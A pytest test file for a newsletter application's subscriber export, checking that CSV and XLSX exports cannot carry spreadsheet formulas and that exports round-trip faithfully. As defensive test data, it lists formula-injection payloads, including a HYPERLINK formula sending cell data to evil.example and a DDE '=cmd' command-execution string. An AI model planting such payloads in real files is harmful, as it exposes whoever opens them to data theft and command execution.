"""What is exported is read back as the same people, and nothing in it is a formula for any spreadsheet (T7)."""

import csv
import io
import json
from collections.abc import Callable
from datetime import datetime
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from builders_audience import a_list, a_subscriber
from newsletter.audience.consent.models import Consent
from newsletter.audience.exporting.files import ExportFormat, write_export
from newsletter.audience.exporting.rows import Wanted, attribute_names, exported_readers
from newsletter.audience.formulas import as_it_was, harmless
from newsletter.audience.importing.apply import import_subscribers
from newsletter.audience.models import EndReason, Subscriber, Subscription, SubscriptionState
from newsletter.audience.queries import reads
from newsletter.foundation.database import Database
from newsletter.foundation.signing import Keyring

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Prize")',
    "=cmd|' /C calc'!A0",
    "+32 470 12 34 56",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    'x";=1+1;"',
    "Anna;=1+1",
    "Anna, =1+1",
    "'=1+1",
    "''-1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_SIGNS = st.text(st.sampled_from([*"=+-@＝＋－＠\t\r\n ;,|\"'ax"]), max_size=12)


@given(_SIGNS)
def test_t7_harmless_text_begins_no_formula_wherever_it_is_split(text: str) -> None:
    made = harmless(text)
    assert as_it_was(made) == text
    for separator in ';,|\t\n\r"':
        cells = [cell.lstrip(" ") for cell in made.split(separator)]
        assert [cell for cell in cells[1:] if cell.startswith(DANGEROUS[:4])] == []
    assert not made.lstrip(" ").startswith(DANGEROUS)


@pytest.mark.parametrize(
    "text", ["L’été", "l'eau", "Anna-Lou", "a+b@example.org", "", "C’est 1 + 1", "'t Hof"]
)
def test_everyday_text_is_left_as_it_is(text: str) -> None:
    assert (harmless(text), as_it_was(text)) == (text, text)


def fill(db: Database, keyring: Keyring) -> None:
    with db.transaction() as session:
        letter, agenda = a_list(session), a_list(session, "agenda")
        for number, text in enumerate(FORMULAS):
            text = text.strip()
            a_subscriber(
                session, keyring, f"f{number}@example.org", lists=[letter], name=text, attributes={"note": text, "=evil": "x"}
            )  # fmt: skip
        a_subscriber(session, keyring, "-minus@example.org", lists=[letter], languages=("fr", "en"))
        a_subscriber(
            session,
            keyring,
            "+plus@example.org",
            lists=[agenda],
            languages=("nl-BE", "fr"),
            reads_both=True,
            first_name="Zoë",
        )
        a_subscriber(
            session, keyring, "none@example.org", lists=[letter], languages=(), attributes={"âge": "40"}
        )
        a_subscriber(
            session,
            keyring,
            "left@example.org",
            lists=[letter],
            languages=("fr",),
            reads_both=True,
            state=SubscriptionState.ENDED,
        )
        both = a_subscriber(session, keyring, "both@example.org", lists=[letter])
        both.subscriptions.append(
            Subscription(list_id=agenda.id, state=SubscriptionState.PENDING, since=both.created_at)
        )
        gone = a_subscriber(
            session, keyring, "gone@example.org", state=SubscriptionState.ENDED, end_reason=EndReason.ERASED
        )
        gone.erased_at = gone.created_at  # fmt: skip


def exported(db: Database, kind: ExportFormat, wanted: Wanted | None = None) -> bytes:
    octets = io.BytesIO()
    with db.read() as session:
        readers = exported_readers(session, wanted or Wanted())
        write_export(octets, kind, attribute_names(session), readers)
    return octets.getvalue()


def cells_of(octets: bytes, kind: ExportFormat) -> list[list[str]]:
    if kind is ExportFormat.CSV:
        return list(csv.reader(io.StringIO(octets.decode("utf-8-sig"), newline="")))
    book = openpyxl.load_workbook(io.BytesIO(octets))
    types = {cell.data_type for row in book.active.rows for cell in row if cell.value is not None}
    assert types == {"s"}  # texts: no formula, no number
    return [[str(cell.value or "") for cell in row] for row in book.active.rows]


@pytest.mark.parametrize("kind", [ExportFormat.CSV, ExportFormat.XLSX])
def test_t7_no_cell_of_an_export_is_a_formula(db: Database, keyring: Keyring, kind: ExportFormat) -> None:
    fill(db, keyring)
    rows = cells_of(exported(db, kind), kind)
    assert len(rows) == len(FORMULAS) + 6
    assert rows[0] == ["email", "name", "first_name", "language", "both", "lists", "'=evil", "note", "âge"]
    assert [cell for row in rows for cell in row if cell.startswith(DANGEROUS)] == []
    assert "'-minus@example.org" in [row[0] for row in rows]


@pytest.mark.parametrize("separator", [";", "\t", ",", "|"])
def test_t7_csv_split_at_another_sign_makes_no_formula(
    db: Database, keyring: Keyring, separator: str
) -> None:
    fill(db, keyring)
    lines = exported(db, ExportFormat.CSV).decode("utf-8-sig").splitlines()
    cells = [cell.strip(' "') for line in lines for cell in line.split(separator)]
    assert [cell for cell in cells if cell.startswith(DANGEROUS)] == []


def people(db: Database) -> list[tuple[Any, ...]]:
    """Who is there and what of: all that an export is to bring back."""
    with db.read() as session:
        columns = (
            Subscriber.address,
            Subscriber.name,
            Subscriber.first_name,
            Subscriber.languages,
            Subscriber.reads_both,
        )
        found = session.execute(
            sa.select(*columns, Subscriber.attributes, Subscription.list_id, Subscription.state)
            .join(Subscription, Subscription.subscriber_id == Subscriber.id)
            .order_by(Subscriber.address, Subscription.list_id)
        )  # fmt: skip
        return [tuple(row) for row in found]


@pytest.mark.parametrize("kind", [ExportFormat.CSV, ExportFormat.XLSX])
def test_export_read_back_gives_the_same_people(
    db: Database, keyring: Keyring, now: datetime, kind: ExportFormat
) -> None:
    fill(db, keyring)
    before, file = people(db), exported(db, kind)
    with db.transaction() as session:
        for table in (Consent, Subscription, Subscriber):
            session.execute(sa.delete(table))
    report = import_subscribers(
        db,
        keyring,
        io.BytesIO(file),
        list_slug=None,
        consent_basis="",
        now=now,
        languages=("fr", "en"),
    )
    assert (report.added, report.refused) == (len(FORMULAS) + 5, ())
    assert people(db) == before
    assert (
        exported(db, ExportFormat.JSON).replace(b'"explicit"', b'"import"').count(b"address") == report.added
    )


def test_json_export_keeps_every_value(db: Database, keyring: Keyring) -> None:
    fill(db, keyring)
    found = {item["address"]: item for item in json.loads(exported(db, ExportFormat.JSON))}
    assert found["f0@example.org"]["name"] == FORMULAS[0]
    assert found["both@example.org"] == {
        "address": "both@example.org",
        "name": "",
        "first_name": "",
        "languages": ["fr"],
        "language_origin": "import",
        "reads_both": False,
        "lists": {"letter": "active", "agenda": "pending"},
        "attributes": {},
    }


def test_export_of_nobody_is_a_header(db: Database) -> None:
    assert exported(db, ExportFormat.CSV) == b"\xef\xbb\xbfemail,name,first_name,language,both,lists\r\n"
    assert json.loads(exported(db, ExportFormat.JSON)) == []


def test_export_of_a_list_or_a_segment_has_only_those(db: Database, keyring: Keyring) -> None:
    fill(db, keyring)

    def addresses(wanted: Wanted) -> list[str]:
        return [row[0] for row in cells_of(exported(db, ExportFormat.CSV, wanted), ExportFormat.CSV)[1:]]

    assert addresses(Wanted("agenda")) == ["'+plus@example.org", "both@example.org"]
    assert addresses(Wanted(segment=reads("nl"))) == ["'+plus@example.org"]
    assert addresses(Wanted("letter", reads("en"))) == ["'-minus@example.org"]


def test_export_reads_page_after_page(db: Database, keyring: Keyring, now: datetime) -> None:
    with db.transaction() as session:
        a_list(session)
    text = "email\n" + "".join(f"{number}@example.org\n" for number in range(4100))
    load: Callable[..., Any] = import_subscribers
    load(
        db,
        keyring,
        io.BytesIO(text.encode()),
        list_slug="letter",
        consent_basis="",
        now=now,
        languages=("fr",),
    )
    with db.read() as session:
        found = [reader.address for reader in exported_readers(session, Wanted("letter"))]
    assert found == [f"{number}@example.org" for number in range(4100)]
